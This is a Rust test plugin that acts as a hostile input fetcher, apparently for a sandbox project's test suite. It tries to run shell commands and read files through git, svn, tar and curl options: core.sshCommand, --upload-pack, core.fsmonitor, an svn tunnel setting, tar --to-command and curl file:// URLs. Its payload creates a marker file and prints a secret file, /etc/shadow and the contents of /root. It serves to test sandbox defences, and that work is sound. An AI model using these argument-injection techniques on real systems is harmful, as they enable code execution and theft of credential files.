//! A plugin granted git, svn, tar and curl that tries, through each one's
//! own arguments, to run code on the server and read its files. The input
//! value is `ATTEMPT MARKER SECRET`: each attempt tries to create the file
//! MARKER and to print the file SECRET. Whatever the programs printed is
//! returned as the fetch's error, for the test to look through.

use orthrus_plugin_fetcher::{Capability, Error, Fetched, InputFetcher, Metadata, export_fetcher, host};

struct Escaper;

/// A shell command that leaves a mark and shows the secret.
fn payload(marker: &str, secret: &str) -> String {
    format!("touch {marker}; cat {secret}; cat /etc/shadow; ls -a /root")
}

fn attempt(name: &str, marker: &str, secret: &str) -> Result<Vec<host::Output>, Error> {
    let payload = payload(marker, secret);
    let sh = format!("sh -c '{payload}' #");
    let runs = match name {
        // git runs its ssh command, the remote's upload-pack, an fsmonitor.
        "git-ssh-command" => vec![host::run(
            "git",
            &["-c", &format!("core.sshCommand={sh}"), "ls-remote", "ssh://example.invalid/repo"],
            "",
        )?],
        "git-upload-pack" => vec![
            host::run("git", &["init", "-q", "repo"], "")?,
            host::run("git", &["ls-remote", &format!("--upload-pack={sh}"), "repo"], "")?,
        ],
        "git-fsmonitor" => vec![
            host::run("git", &["init", "-q", "monitored"], "")?,
            host::run("git", &["-c", &format!("core.fsmonitor={sh}"), "status"], "monitored")?,
        ],
        // A global configuration of its own making, in the home it is given.
        "git-global-config" => vec![
            host::run("git", &["config", "--global", "core.fsmonitor", &sh], "")?,
            host::run("git", &["init", "-q", "configured"], "")?,
            host::run("git", &["status"], "configured")?,
        ],
        "svn-tunnel" => vec![host::run(
            "svn",
            &[
                "--non-interactive",
                "--config-option",
                &format!("config:tunnels:evil={sh}"),
                "ls",
                "svn+evil://host/repo",
            ],
            "",
        )?],
        "tar-to-command" => {
            std::fs::write("/scratch/file", "x").map_err(|e| e.to_string())?;
            vec![
                host::run("tar", &["-cf", "archive.tar", "file"], "")?,
                host::run("tar", &["-xf", "archive.tar", &format!("--to-command={payload}")], "")?,
            ]
        }
        "curl-file" => vec![
            host::run("curl", &["-s", &format!("file://{secret}")], "")?,
            host::run("curl", &["-s", "file:///etc/shadow"], "")?,
        ],
        // The network is off unless granted: the server itself is out of reach.
        "curl-network" => vec![host::run("curl", &["-s", "-m", "5", secret], "")?],
        other => return Err(Error::Failed(format!("unknown attempt {other:?}"))),
    };
    Ok(runs)
}

impl InputFetcher for Escaper {
    fn metadata() -> Metadata {
        Metadata {
            name: "escaper".into(),
            version: "0.1.0".into(),
            description: "Tries to leave the sandbox through granted programs".into(),
            handles: vec!["escaper".into()],
            capabilities: ["git", "svn", "tar", "curl"].map(|p| Capability::RunProgram(p.into())).to_vec(),
        }
    }

    fn fetch(_input: &str, value: &str) -> Result<Fetched, Error> {
        let words: Vec<&str> = value.split_whitespace().collect();
        let [name, marker, secret] = words.as_slice() else { return Err("value: ATTEMPT MARKER SECRET".into()) };
        let runs = attempt(name, marker, secret)?;
        let said: Vec<String> = runs
            .iter()
            .map(|o| {
                format!(
                    "[status {}] {} {}",
                    o.status,
                    String::from_utf8_lossy(&o.stdout),
                    String::from_utf8_lossy(&o.stderr)
                )
            })
            .collect();
        Err(Error::Failed(format!("{name} done: {}", said.join(" | "))))
    }
}

export_fetcher!(Escaper);
